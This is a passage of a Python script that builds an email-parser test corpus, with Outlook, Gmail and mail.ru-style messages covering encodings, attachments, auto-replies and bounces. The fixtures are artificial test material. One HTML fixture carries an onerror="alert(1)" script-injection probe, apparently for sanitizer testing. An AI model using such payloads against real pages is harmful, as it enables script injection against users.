"""Builds tests/email/corpus/*.eml and expected.json: real-world-shaped mail from common clients.

Run `python tests/email/build_corpus.py` after changing a case; test_parse checks that the committed
corpus is exactly what this script writes. Messages are written byte by byte the way the named clients
send them (CRLF, folded headers, their boundaries, transfer encodings and encoded-word styles).
Expected values are written here by hand, independently of the parser: what a person reading the
message would say it contains.
"""

from __future__ import annotations

import base64
import json
import quopri
import struct
import sys
from pathlib import Path
from typing import Any

HERE = Path(__file__).parent
CORPUS = HERE / "corpus"
NOT_EMAIL = HERE / "not_email"
CASES: dict[str, tuple[bytes, dict[str, Any]]] = {}
SUPPORT = "support@shop.example"
SP = " "  # a significant trailing space (format=flowed, "-- " signature lines)
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n" * 3
PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4"
       b"\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")
JPG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(range(256)) + b"\xff\xd9"


def crlf(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


def b64(data: bytes) -> str:
    enc = base64.b64encode(data).decode()
    return "\r\n".join(enc[i:i + 76] for i in range(0, len(enc), 76))


def qp(text: str, charset: str = "utf-8") -> str:
    return crlf(quopri.encodestring(text.replace("\r\n", "\n").encode(charset)).decode("ascii"))


def ew_b(text: str, charset: str = "utf-8", chunk: int = 30) -> str:
    """Encoded words the way Gmail/Outlook write them: B encoding, whole characters per word, folded."""
    words, current = [], ""
    for ch in text:
        if len((current + ch).encode(charset)) > chunk:
            words.append(current)
            current = ""
        current += ch
    words.append(current)
    return "\r\n ".join(f"=?{charset}?B?{base64.b64encode(w.encode(charset)).decode()}?=" for w in words)


def ew_q(text: str, charset: str = "utf-8") -> str:
    out = []
    for byte in text.encode(charset):
        ch = chr(byte)
        if ch == " ":
            out.append("_")
        elif ch.isascii() and (ch.isalnum() or ch in "!*+-/.,"):
            out.append(ch)
        else:
            out.append(f"={byte:02X}")
    return f"=?{charset}?Q?{''.join(out)}?="


def case(name: str, raw: str | bytes, expected: dict[str, Any]) -> None:
    data = raw.encode("utf-8") if isinstance(raw, str) else raw
    assert name not in CASES, name
    CASES[name] = (data, expected)


def exp(frm: str | None, name: str, subject: str, date: str | None, msgid: str | None, *,
        to: list[str] | None = None, **more: Any) -> dict[str, Any]:
    result: dict[str, Any] = {"from_email": frm, "from_name": name, "subject": subject, "date": date,
                              "message_id": msgid, "to": [SUPPORT] if to is None else to, "is_auto": False,
                              "auto_kind": None, "attachments": [], "in_reply_to": None, "references": [],
                              "bounced_recipients": [], "headers_ok": True}
    result.update(more)
    return result


def att(filename: str, content_type: str, size: int, inline: bool = False, **more: Any) -> dict[str, Any]:
    return {"filename": filename, "content_type": content_type, "size": size, "inline": inline, **more}


# ---------------------------------------------------------------------------------------------- Outlook
OUTLOOK_HTML = """<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">
<head><meta http-equiv="Content-Type" content="text/html; charset={cs}"><style><!--
p.MsoNormal {{margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;}}
--></style></head><body lang="{lang}" link="#0563C1"><div class="WordSection1">{body}</div></body></html>"""


def outlook(name: str, frm: tuple[str, str], subject_enc: str, plain: str, html_body: str, *, charset: str,
            lang: str, date: str, msgid: str, extra: str = "", to: str = f"<{SUPPORT}>") -> str:
    html = OUTLOOK_HTML.format(cs=charset, lang=lang, body=html_body)
    return crlf(f"""Received: from DB9PR02MB7001.eurprd02.prod.outlook.com ([fe80::1]) by
 DB9PR02MB7001.eurprd02.prod.outlook.com ([fe80::1%5]) with mapi id 15.20.7362.019;
 {date}
From: {name} <{frm[1]}>
To: {to}
Subject: {subject_enc}
Thread-Topic: {subject_enc}
Thread-Index: AdpuEtoWq0dSbxTcRyWl1c1OgSlqZw==
Date: {date}
Message-ID: <{msgid}>
{extra}Accept-Language: {lang}, en-US
Content-Language: {lang}
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
Content-Type: multipart/alternative;
\tboundary="_000_{msgid[:20]}_"
MIME-Version: 1.0

--_000_{msgid[:20]}_
Content-Type: text/plain; charset="{charset}"
Content-Transfer-Encoding: quoted-printable

{qp(plain, charset)}
--_000_{msgid[:20]}_
Content-Type: text/html; charset="{charset}"
Content-Transfer-Encoding: quoted-printable

{qp(html, charset)}
--_000_{msgid[:20]}_--
""")


plain = """Hello,

Order 100234 arrived with a broken handle. Could you send a replacement?

Best regards,
John Smith

From: Shop Support <support@shop.example>
Sent: Monday, March 4, 2024 9:12 AM
To: John Smith <john.smith@contoso.com>
Subject: RE: Order 100234

Dear John, your order has been shipped.
"""
case("outlook-en-reply", outlook("John Smith", ("", "John.Smith@contoso.com"), "RE: Order 100234", plain,
                                 "<p class=MsoNormal>Hello,<o:p></o:p></p><p class=MsoNormal>Order 100234 arrived "
                                 "with a broken handle.</p>", charset="us-ascii", lang="en-US",
                                 date="Mon, 4 Mar 2024 09:31:07 +0000",
                                 msgid="DB9PR02MB70014C2F5E0A1B2C3D4E5F6A7B8@DB9PR02MB7001.eurprd02.prod.outlook.com",
                                 extra="In-Reply-To: <ticket-100234-1@shop.example>\nReferences: "
                                       "<ticket-100234-1@shop.example>\n"),
     exp("john.smith@contoso.com", "John Smith", "RE: Order 100234", "2024-03-04T09:31:07+00:00",
         "DB9PR02MB70014C2F5E0A1B2C3D4E5F6A7B8@DB9PR02MB7001.eurprd02.prod.outlook.com",
         in_reply_to="ticket-100234-1@shop.example", references=["ticket-100234-1@shop.example"],
         text=plain.strip("\n"), html_contains=["Order 100234 arrived"], html_excludes=["<style", "MsoNormal {"],
         reply_text="Hello,\n\nOrder 100234 arrived with a broken handle. Could you send a replacement?\n\n"
                    "Best regards,\nJohn Smith"))

plain = """Добрый день!

Заказ 100500 так и не пришёл, трек-номер не отслеживается.

С уважением,
Ольга Сидорова
менеджер по закупкам

От: Поддержка <support@shop.example>
Отправлено: 4 марта 2024 г. 9:00
Кому: Ольга Сидорова <o.sidorova@tdvesna.ru>
Тема: Заказ 100500

Ваш заказ отправлен.
"""
case("outlook-ru-cp1251", outlook(ew_b("Ольга Сидорова", "windows-1251"), ("", "o.sidorova@tdvesna.ru"),
                                  ew_b("RE: Заказ 100500 не пришёл", "windows-1251"), plain,
                                  "<p class=MsoNormal>Добрый день!</p>", charset="windows-1251", lang="ru-RU",
                                  date="Mon, 4 Mar 2024 12:05:44 +0300", msgid="AM0PR0702MB3571B1@AM0PR0702MB3571.eurprd07.prod.outlook.com"),
     exp("o.sidorova@tdvesna.ru", "Ольга Сидорова", "RE: Заказ 100500 не пришёл", "2024-03-04T09:05:44+00:00",
         "AM0PR0702MB3571B1@AM0PR0702MB3571.eurprd07.prod.outlook.com", text=plain.strip("\n"),
         reply_text="Добрый день!\n\nЗаказ 100500 так и не пришёл, трек-номер не отслеживается.\n\nС уважением,\n"
                    "Ольга Сидорова\nменеджер по закупкам", html_contains=["Добрый день!"]))

plain = """Dzień dobry,

proszę o fakturę korygującą do zamówienia 7781.

Pozdrawiam
Łukasz Wiśniewski

Od: Sklep <support@shop.example>
Wysłano: poniedziałek, 4 marca 2024 10:00
Do: Łukasz Wiśniewski <lukasz@firma.pl>
Temat: Zamówienie 7781
"""
case("outlook-pl", outlook("=?iso-8859-2?Q?=A3ukasz_Wi=B6niewski?=", ("", "lukasz@firma.pl"),
                           "=?iso-8859-2?Q?Odp:_Zam=F3wienie_7781_=2D_faktura_koryguj=B1ca?=", plain,
                           "<p>Dzień dobry,</p>", charset="utf-8", lang="pl-PL",
                           date="Mon, 4 Mar 2024 11:20:00 +0100", msgid="VI1PR09MB4352AB@VI1PR09MB4352.eurprd09.prod.outlook.com"),
     exp("lukasz@firma.pl", "Łukasz Wiśniewski", "Odp: Zamówienie 7781 - faktura korygująca",
         "2024-03-04T10:20:00+00:00", "VI1PR09MB4352AB@VI1PR09MB4352.eurprd09.prod.outlook.com",
         text=plain.strip("\n"), reply_text="Dzień dobry,\n\nproszę o fakturę korygującą do zamówienia 7781.\n\n"
                                            "Pozdrawiam\nŁukasz Wiśniewski"))

plain = """Bonjour,

Je n’ai toujours pas reçu le remboursement de la commande n° 5521.

Cordialement,
Hélène Dubois

De : Service client <support@shop.example>
Envoyé : lundi 4 mars 2024 09:00
À : Hélène Dubois <helene.dubois@orange.fr>
Objet : Commande n° 5521
"""
case("outlook-fr-cp1252", outlook("=?Windows-1252?Q?H=E9l=E8ne_Dubois?=", ("", "helene.dubois@orange.fr"),
                                  "=?Windows-1252?Q?RE=A0:_Commande_n=B0_5521_=96_remboursement?=", plain,
                                  "<p>Bonjour,</p>", charset="Windows-1252", lang="fr-FR",
                                  date="Mon, 04 Mar 2024 10:45:12 +0100", msgid="PR1P264MB1234@PR1P264MB1234.FRAP264.PROD.OUTLOOK.COM"),
     exp("helene.dubois@orange.fr", "Hélène Dubois", "RE : Commande n° 5521 – remboursement",
         "2024-03-04T09:45:12+00:00", "PR1P264MB1234@PR1P264MB1234.FRAP264.PROD.OUTLOOK.COM", text=plain.strip("\n"),
         reply_text="Bonjour,\n\nJe n’ai toujours pas reçu le remboursement de la commande n° 5521.\n\nCordialement,\n"
                    "Hélène Dubois"))


def tnef_attr(level: int, name: int, type_: int, data: bytes) -> bytes:
    return struct.pack("<BHHI", level, name, type_, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)


WINMAIL = (struct.pack("<IH", 0x223E9F78, 0x4F2A)
           + tnef_attr(1, 0x9006, 0x0008, struct.pack("<I", 0x00010000))
           + tnef_attr(1, 0x9007, 0x0006, struct.pack("<II", 1252, 0))
           + tnef_attr(1, 0x8008, 0x0007, b"IPM.Microsoft Mail.Note\x00")
           + tnef_attr(1, 0x800C, 0x0002, b"Please find the signed contract attached.\r\n\r\nRegards, Anna\x00")
           + tnef_attr(2, 0x9002, 0x0006, b"\x01\x00\xff\xff\xff\xff\x00\x00\x00\x00\x00\x00\x00\x00")
           + tnef_attr(2, 0x8010, 0x0001, b"contract.pdf\x00")
           + tnef_attr(2, 0x800F, 0x0006, PDF)
           + tnef_attr(2, 0x9002, 0x0006, b"\x01\x00\xff\xff\xff\xff\x00\x00\x00\x00\x00\x00\x00\x00")
           + tnef_attr(2, 0x8010, 0x0001, b"prices.xls\x00")
           + tnef_attr(2, 0x800F, 0x0006, b"\xd0\xcf\x11\xe0" + b"\x00" * 200))
case("outlook-winmail-dat", crlf(f"""From: "Anna Kowalska" <anna@biuro.example.pl>
To: <{SUPPORT}>
Subject: Contract
Date: Tue, 5 Mar 2024 08:00:00 +0100
Message-ID: <000001da6e9b$2c4f1e30$84ed5a90$@biuro.example.pl>
MIME-Version: 1.0
Content-Type: multipart/mixed;
\tboundary="----=_NextPart_000_0001_01DA6EA3.8E1B8630"
X-Mailer: Microsoft Outlook 14.0
Thread-Index: AdpumyueQWmnwhJSTbCB0pA3nC6CTQ==
Content-Language: pl

This is a multi-part message in MIME format.

------=_NextPart_000_0001_01DA6EA3.8E1B8630
Content-Type: text/plain;
\tcharset="us-ascii"
Content-Transfer-Encoding: 7bit



------=_NextPart_000_0001_01DA6EA3.8E1B8630
Content-Type: application/ms-tnef;
\tname="winmail.dat"
Content-Transfer-Encoding: base64
Content-Disposition: attachment;
\tfilename="winmail.dat"

{b64(WINMAIL)}

------=_NextPart_000_0001_01DA6EA3.8E1B8630--
"""), exp("anna@biuro.example.pl", "Anna Kowalska", "Contract", "2024-03-05T07:00:00+00:00",
          "000001da6e9b$2c4f1e30$84ed5a90$@biuro.example.pl",
          attachments=[att("contract.pdf", "application/pdf", len(PDF)),
                       att("prices.xls", "application/vnd.ms-excel", 204)],
          text="Please find the signed contract attached.\n\nRegards, Anna",
          reply_text="Please find the signed contract attached.\n\nRegards, Anna"))

case("outlook-inline-image", crlf(f"""From: Mark Taylor <mark.taylor@fabrikam.com>
To: "support@shop.example" <{SUPPORT}>
Subject: Damaged box - photo
Date: Wed, 6 Mar 2024 14:02:11 +0000
Message-ID: <LO2P265MB5261E0@LO2P265MB5261.GBRP265.PROD.OUTLOOK.COM>
Content-Type: multipart/related;
\tboundary="_004_LO2P265MB5261E0_";
\ttype="multipart/alternative"
MIME-Version: 1.0

--_004_LO2P265MB5261E0_
Content-Type: multipart/alternative;
\tboundary="_000_LO2P265MB5261E0_"

--_000_LO2P265MB5261E0_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

See the photo below.

[cid:image001.png@01DA6FD5.1A2B3C40]

Mark

--_000_LO2P265MB5261E0_
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

<html><body><p>See the photo below.</p><p><img width=3D"1" height=3D"1" src=3D"c=
id:image001.png@01DA6FD5.1A2B3C40" onerror=3D"alert(1)"></p><p>Mark</p></body></html>

--_000_LO2P265MB5261E0_--

--_004_LO2P265MB5261E0_
Content-Type: image/png; name="image001.png"
Content-Description: image001.png
Content-Disposition: inline; filename="image001.png"; size={len(PNG)};
\tcreation-date="Wed, 06 Mar 2024 14:02:10 GMT"
Content-ID: <image001.png@01DA6FD5.1A2B3C40>
Content-Transfer-Encoding: base64

{b64(PNG)}

--_004_LO2P265MB5261E0_--
"""), exp("mark.taylor@fabrikam.com", "Mark Taylor", "Damaged box - photo", "2024-03-06T14:02:11+00:00",
          "LO2P265MB5261E0@LO2P265MB5261.GBRP265.PROD.OUTLOOK.COM",
          attachments=[att("image001.png", "image/png", len(PNG), True,
                           content_id="image001.png@01DA6FD5.1A2B3C40")],
          text="See the photo below.\n\n[cid:image001.png@01DA6FD5.1A2B3C40]\n\nMark",
          html_contains=['src="cid:image001.png@01DA6FD5.1A2B3C40"'], html_excludes=["onerror", "alert"]))

case("outlook-ooo-en", crlf(f"""From: Peter Miller <peter.miller@contoso.com>
To: <{SUPPORT}>
Subject: Automatic reply: Your ticket SPR-000042
Thread-Topic: Your ticket SPR-000042
Date: Thu, 7 Mar 2024 07:00:03 +0000
Message-ID: <a1b2c3d4e5@DB8PR02MB5500.eurprd02.prod.outlook.com>
In-Reply-To: <ticket-42-reply@shop.example>
Auto-Submitted: auto-generated
X-MS-Exchange-Inbox-Rules-Loop: peter.miller@contoso.com
X-Auto-Response-Suppress: All
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0

I am out of the office until March 18 with limited access to email. For urg=
ent matters please contact my colleague Sarah Jones.
"""), exp("peter.miller@contoso.com", "Peter Miller", "Automatic reply: Your ticket SPR-000042",
          "2024-03-07T07:00:03+00:00", "a1b2c3d4e5@DB8PR02MB5500.eurprd02.prod.outlook.com",
          in_reply_to="ticket-42-reply@shop.example", is_auto=True, auto_kind="ooo",
          text="I am out of the office until March 18 with limited access to email. For urgent matters please "
               "contact my colleague Sarah Jones."))

case("outlook-ooo-ru", crlf(f"""From: {ew_b("Дмитрий Котов", "koi8-r")} <d.kotov@example-retail.ru>
To: <{SUPPORT}>
Subject: =?koi8-r?B?4dfUz83B1MnexdPLycog z9TXxdQ6IPrB0dfLwSA=?=
 =?koi8-r?B?MTIz?=
Date: Thu, 7 Mar 2024 10:00:00 +0300
Message-ID: <7f3a@mx.example-retail.ru>
Auto-Submitted: auto-replied
X-Auto-Response-Suppress: All
MIME-Version: 1.0
Content-Type: text/plain; charset="koi8-r"
Content-Transfer-Encoding: 8bit

""") .encode("ascii") + "Меня не будет в офисе до 15 марта. По срочным вопросам звоните Анне.\r\n".encode("koi8_r"),
     exp("d.kotov@example-retail.ru", "Дмитрий Котов", "Автоматический ответ: Заявка 123",
         "2024-03-07T07:00:00+00:00", "7f3a@mx.example-retail.ru", is_auto=True, auto_kind="ooo",
         text="Меня не будет в офисе до 15 марта. По срочным вопросам звоните Анне.",
         defects_contains=["encoded word: bad base64"]))

ICS = b64(crlf('BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nSUMMARY:Delivery slot review\nEND:VEVENT\nEND:VCALENDAR\n').encode())
case("outlook-calendar-invite", crlf(f"""From: Laura Chen <laura.chen@contoso.com>
To: <{SUPPORT}>
Subject: Delivery slot review
Date: Fri, 8 Mar 2024 16:00:00 +0000
Message-ID: <CAL123@contoso.com>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="_000_CAL123_"

--_000_CAL123_
Content-Type: text/plain; charset="us-ascii"

Let's review the delivery slots on Monday.

--_000_CAL123_
Content-Type: text/calendar; charset="utf-8"; method=REQUEST
Content-Transfer-Encoding: base64

{ICS}

--_000_CAL123_--
"""), exp("laura.chen@contoso.com", "Laura Chen", "Delivery slot review", "2024-03-08T16:00:00+00:00",
          "CAL123@contoso.com", text="Let's review the delivery slots on Monday.",
          attachments=[att("attachment-1.ics", "text/calendar", len(base64.b64decode(ICS)))]))

# ---------------------------------------------------------------------------------------------- Gmail


def gmail(frm: str, subject: str, plain: str, html: str, *, date: str, msgid: str, extra: str = "",
          charset: str = "UTF-8", cte: str = "quoted-printable", parts: str = "", to: str = f"<{SUPPORT}>") -> str:
    body_plain = qp(plain) if cte == "quoted-printable" else b64(plain.encode())
    body_html = qp(html) if cte == "quoted-printable" else b64(html.encode())
    alt = f"""Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f60612"

--000000000000a1b2c3d4e5f60612
Content-Type: text/plain; charset="{charset}"
Content-Transfer-Encoding: {cte}

{body_plain}
--000000000000a1b2c3d4e5f60612
Content-Type: text/html; charset="{charset}"
Content-Transfer-Encoding: {cte}

{body_html}
--000000000000a1b2c3d4e5f60612--
"""
    if parts:
        body = f"""Content-Type: multipart/mixed; boundary="000000000000f1e2d3c4b5a60612"

--000000000000f1e2d3c4b5a60612
{alt}
{parts}--000000000000f1e2d3c4b5a60612--
"""
    else:
        body = alt
    return crlf(f"""Delivered-To: {SUPPORT}
Received: by 2002:a05:6a10:1234:b0:4e1:1234:abcd with SMTP id p20csp123456pxb;
        Mon, 4 Mar 2024 02:31:07 -0800 (PST)
MIME-Version: 1.0
{extra}From: {frm}
Date: {date}
Message-ID: <{msgid}>
Subject: {subject}
To: {to}
{body}""")


plain = """Hi,

The tracking link still shows "label created". Any news?

Thanks,
Emma

On Mon, Mar 4, 2024 at 9:00 AM Shop Support <support@shop.example>
wrote:

> Your parcel left our warehouse.
>
> --
> Shop Support
"""
case("gmail-en-reply", gmail("Emma Brown <emma.brown84@gmail.com>", "Re: Where is my parcel?", plain,
                             '<div dir="ltr">Hi,<div><br></div><div>The tracking link still shows &quot;label '
                             'created&quot;. Any news?</div></div><br><div class="gmail_quote"><blockquote '
                             'class="gmail_quote">Your parcel left our warehouse.</blockquote></div>',
                             date="Mon, 4 Mar 2024 11:31:07 +0100",
                             msgid="CAJ8xX+Ux7aB2cD3eF4gH5iJ6kL7mN8oP9qR0sT1uV2wX3yZ4A@mail.gmail.com",
                             extra="References: <ticket-77-a@shop.example> <ticket-77-b@shop.example>\n"
                                   "In-Reply-To: <ticket-77-b@shop.example>\n"),
     exp("emma.brown84@gmail.com", "Emma Brown", "Re: Where is my parcel?", "2024-03-04T10:31:07+00:00",
         "CAJ8xX+Ux7aB2cD3eF4gH5iJ6kL7mN8oP9qR0sT1uV2wX3yZ4A@mail.gmail.com",
         in_reply_to="ticket-77-b@shop.example", references=["ticket-77-a@shop.example", "ticket-77-b@shop.example"],
         delivered_to=[SUPPORT], text=plain.strip("\n"),
         reply_text='Hi,\n\nThe tracking link still shows "label created". Any news?\n\nThanks,\nEmma',
         html_contains=["<blockquote>Your parcel left our warehouse.</blockquote>"]))

plain = """Здравствуйте!

Пришёл не тот размер, хочу обменять.

пн, 4 мар. 2024 г. в 10:00, Поддержка магазина <support@shop.example>:

> Ваш заказ передан в доставку.
"""
case("gmail-ru-reply", gmail(f"{ew_b('Анна Смирнова', 'UTF-8')} <anna.smirnova@gmail.com>",
                             ew_b("Re: Обмен размера", "UTF-8"), plain, "<div>Здравствуйте!</div>",
                             date="Mon, 4 Mar 2024 12:00:00 +0300", msgid="CAB1ru@mail.gmail.com", cte="base64"),
     exp("anna.smirnova@gmail.com", "Анна Смирнова", "Re: Обмен размера", "2024-03-04T09:00:00+00:00",
         "CAB1ru@mail.gmail.com", delivered_to=[SUPPORT], text=plain.strip("\n"),
         reply_text="Здравствуйте!\n\nПришёл не тот размер, хочу обменять."))

plain = """Dzień dobry,

kiedy mogę spodziewać się zwrotu pieniędzy?

W dniu pon., 4 mar 2024 o 10:00 Sklep <support@shop.example> napisał(a):

> Zwrot został przyjęty.
"""
case("gmail-pl-reply", gmail(f"{ew_b('Katarzyna Wójcik')} <kasia.wojcik@gmail.com>", ew_b("Re: Zwrot zamówienia"),
                             plain, "<div>Dzień dobry,</div>", date="Mon, 4 Mar 2024 13:14:15 +0100",
                             msgid="CAPLgm@mail.gmail.com"),
     exp("kasia.wojcik@gmail.com", "Katarzyna Wójcik", "Re: Zwrot zamówienia", "2024-03-04T12:14:15+00:00",
         "CAPLgm@mail.gmail.com", delivered_to=[SUPPORT], text=plain.strip("\n"),
         reply_text="Dzień dobry,\n\nkiedy mogę spodziewać się zwrotu pieniędzy?"))

plain = """Bonjour,

Le colis est arrivé ouvert. Que dois-je faire ?

Le lun. 4 mars 2024 à 10:00, Service client <support@shop.example> a écrit :

> Votre colis a été expédié.
"""
case("gmail-fr-reply", gmail(f"{ew_q('François Lefèvre')} <f.lefevre@gmail.com>", ew_q("Re: Colis abîmé"),
                             plain, "<div>Bonjour,</div>", date="Mon, 4 Mar 2024 15:00:00 +0100",
                             msgid="CAFRgm@mail.gmail.com"),
     exp("f.lefevre@gmail.com", "François Lefèvre", "Re: Colis abîmé", "2024-03-04T14:00:00+00:00",
         "CAFRgm@mail.gmail.com", delivered_to=[SUPPORT], text=plain.strip("\n"),
         reply_text="Bonjour,\n\nLe colis est arrivé ouvert. Que dois-je faire ?"))

LONG_NAME = "Акт сверки взаиморасчётов за первый квартал 2024 года с ООО Ромашка.pdf"
TOKENS = ["".join(f"%{b:02X}" if not (ch.isascii() and ch.isalnum()) else ch for b in ch.encode()) for ch in LONG_NAME]
quoted = "".join(TOKENS)
CUT1, CUT2 = len("".join(TOKENS[:20])), len("".join(TOKENS[:45]))
case("gmail-rfc2231-filename", gmail("Pavel <pavel.ivanov@gmail.com>", "Documents", "Attached.\n", "<div>Attached.</div>",
                                     date="Tue, 5 Mar 2024 09:00:00 +0300", msgid="CAdocs@mail.gmail.com",
                                     parts=f"""--000000000000f1e2d3c4b5a60612
Content-Type: application/pdf; name="=?UTF-8?B?0JDQutGCINGB0LLQtdGA0LrQuC5wZGY=?="
Content-Disposition: attachment;
\tfilename*0*=UTF-8''{quoted[:CUT1]};
\tfilename*1*={quoted[CUT1:CUT2]};
\tfilename*2*={quoted[CUT2:]}
Content-Transfer-Encoding: base64
X-Attachment-Id: f_lt1abc0
Content-ID: <f_lt1abc0>

{b64(PDF)}
"""),
     exp("pavel.ivanov@gmail.com", "Pavel", "Documents", "2024-03-05T06:00:00+00:00", "CAdocs@mail.gmail.com",
         delivered_to=[SUPPORT], text="Attached.",
         attachments=[att(LONG_NAME, "application/pdf", len(PDF), False, content_id="f_lt1abc0")]))

case("gmail-inline-image", gmail("Tom Lee <tom.lee@gmail.com>", "Scratch on the table",
                                 "See photo\n[image: IMG_2041.jpg]\n",
                                 '<div>See photo<br><img src="cid:ii_lt2xyz0" alt="IMG_2041.jpg" width="562"></div>',
                                 date="Tue, 5 Mar 2024 10:00:00 -0500", msgid="CAimg@mail.gmail.com",
                                 parts=f"""--000000000000f1e2d3c4b5a60612
Content-Type: image/jpeg; name="IMG_2041.jpg"
Content-Disposition: inline; filename="IMG_2041.jpg"
Content-Transfer-Encoding: base64
Content-ID: <ii_lt2xyz0>
X-Attachment-Id: ii_lt2xyz0

{b64(JPG)}
"""),
     exp("tom.lee@gmail.com", "Tom Lee", "Scratch on the table", "2024-03-05T15:00:00+00:00", "CAimg@mail.gmail.com",
         delivered_to=[SUPPORT], text="See photo\n[image: IMG_2041.jpg]",
         attachments=[att("IMG_2041.jpg", "image/jpeg", len(JPG), True, content_id="ii_lt2xyz0")],
         html_contains=['src="cid:ii_lt2xyz0"']))

plain = """FYI, see the customer's message below.

---------- Forwarded message ---------
From: Maria Garcia <maria.garcia@example.com>
Date: Mon, Mar 4, 2024 at 8:00 AM
Subject: Wrong colour
To: <sales@shop.example>

I ordered blue and received green.
"""
case("gmail-forward-inline", gmail("Sales Team <sales.team.shop@gmail.com>", "Fwd: Wrong colour", plain,
                                   "<div>FYI</div>", date="Mon, 4 Mar 2024 09:00:00 +0000", msgid="CAfwd@mail.gmail.com"),
     exp("sales.team.shop@gmail.com", "Sales Team", "Fwd: Wrong colour", "2024-03-04T09:00:00+00:00",
         "CAfwd@mail.gmail.com", delivered_to=[SUPPORT], text=plain.strip("\n"), reply_text=plain.strip("\n")))

case("gmail-vacation", crlf(f"""Delivered-To: {SUPPORT}
MIME-Version: 1.0
From: Chris Adams <chris.adams@gmail.com>
Date: Tue, 5 Mar 2024 10:00:00 +0000
Message-ID: <CAvac@mail.gmail.com>
Subject: Re: Your order 881
To: <{SUPPORT}>
Auto-Submitted: auto-replied
Precedence: bulk
Content-Type: text/plain; charset="UTF-8"

I'm on vacation until March 12 and will answer when I'm back.
"""), exp("chris.adams@gmail.com", "Chris Adams", "Re: Your order 881", "2024-03-05T10:00:00+00:00", "CAvac@mail.gmail.com",
          delivered_to=[SUPPORT], is_auto=True, auto_kind="ooo",
          text="I'm on vacation until March 12 and will answer when I'm back."))

case("gmail-dsn-bounce", crlf(f"""Delivered-To: {SUPPORT}
Return-Path: <>
MIME-Version: 1.0
From: Mail Delivery Subsystem <mailer-daemon@googlemail.com>
To: {SUPPORT}
Auto-Submitted: auto-replied
Subject: Delivery Status Notification (Failure)
Message-ID: <65e5d7a1.050a0220.dsn@mx.google.com>
Date: Mon, 04 Mar 2024 06:22:57 -0800 (PST)
Content-Type: multipart/report; boundary="000000000000dsn0612"; report-type=delivery-status

--000000000000dsn0612
Content-Type: text/plain; charset="UTF-8"


** Address not found **

Your message wasn't delivered to no.such.user@example.org because the address couldn't be found, or is unable to receive mail.

--000000000000dsn0612
Content-Type: message/delivery-status

Reporting-MTA: dns; googlemail.com
Received-From-MTA: dns; support@shop.example
Arrival-Date: Mon, 04 Mar 2024 06:22:56 -0800 (PST)

Final-Recipient: rfc822; no.such.user@example.org
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.example.org. (203.0.113.5, the server for the domain example.org.)
Diagnostic-Code: smtp; 550-5.1.1 The email account that you tried to reach does not exist.
Last-Attempt-Date: Mon, 04 Mar 2024 06:22:57 -0800 (PST)

--000000000000dsn0612
Content-Type: message/rfc822

From: Shop Support <{SUPPORT}>
To: no.such.user@example.org
Subject: Your ticket SPR-000050
Message-ID: <out-50@shop.example>
Date: Mon, 04 Mar 2024 06:22:55 -0800

Hello!

--000000000000dsn0612--
"""), exp("mailer-daemon@googlemail.com", "Mail Delivery Subsystem", "Delivery Status Notification (Failure)",
          "2024-03-04T14:22:57+00:00", "65e5d7a1.050a0220.dsn@mx.google.com", delivered_to=[SUPPORT],
          is_auto=True, auto_kind="bounce", bounced_recipients=["no.such.user@example.org"],
          attachments=[att("delivery-status.txt", "message/delivery-status", 455, verbatim=True),
                       att("Your ticket SPR-000050.eml", "message/rfc822", 190, verbatim=True)],
          text_contains=["** Address not found **", "---------- Forwarded message ----------",
                         "Subject: Your ticket SPR-000050"]))

# ---------------------------------------------------------------------------------------------- mail.ru, Yandex
html = ('<HTML><BODY><div>Здравствуйте!</div><div>&nbsp;</div><div>Курьер не приехал в назначенное время, '
        'заказ 34567.</div><div>&nbsp;</div><div>--<br>Сергей Волков</div></BODY></HTML>')
case("mailru-html-only", crlf(f"""Received: from [185.5.136.1] by f700.i.mail.ru with HTTP;
\tTue, 05 Mar 2024 12:00:00 +0300
From: =?UTF-8?B?0KHQtdGA0LPQtdC5INCS0L7Qu9C60L7Qsg==?= <volkov.s@mail.ru>
To: {SUPPORT}
Subject: =?UTF-8?B?0JrRg9GA0YzQtdGAINC90LUg0L/RgNC40LXRhdCw0Ls=?=
MIME-Version: 1.0
X-Mailer: Mail.Ru Mailer 1.0
Date: Tue, 05 Mar 2024 12:00:00 +0300
Reply-To: =?UTF-8?B?0KHQtdGA0LPQtdC5INCS0L7Qu9C60L7Qsg==?= <volkov.s@mail.ru>
X-Priority: 3 (Normal)
Message-ID: <1709629200.123456789@f700.i.mail.ru>
Content-Type: text/html; charset=UTF-8
Content-Transfer-Encoding: base64

{b64(html.encode())}
"""), exp("volkov.s@mail.ru", "Сергей Волков", "Курьер не приехал", "2024-03-05T09:00:00+00:00",
          "1709629200.123456789@f700.i.mail.ru", reply_to=["volkov.s@mail.ru"],
          text="Здравствуйте!\n\nКурьер не приехал в назначенное время, заказ 34567.\n\n--\nСергей Волков",
          html_contains=["<div>Здравствуйте!</div>"]))

plain = """Добрый день. Подскажите, когда будет возврат?

Понедельник, 4 марта 2024, 10:00 +03:00 от Поддержка <support@shop.example>:

>Возврат оформлен.
"""
case("mailru-reply", crlf(f"""From: =?UTF-8?B?0JXQu9C10L3QsA==?= <elena.k@inbox.ru>
To: =?UTF-8?B?0J/QvtC00LTQtdGA0LbQutCw?= <{SUPPORT}>
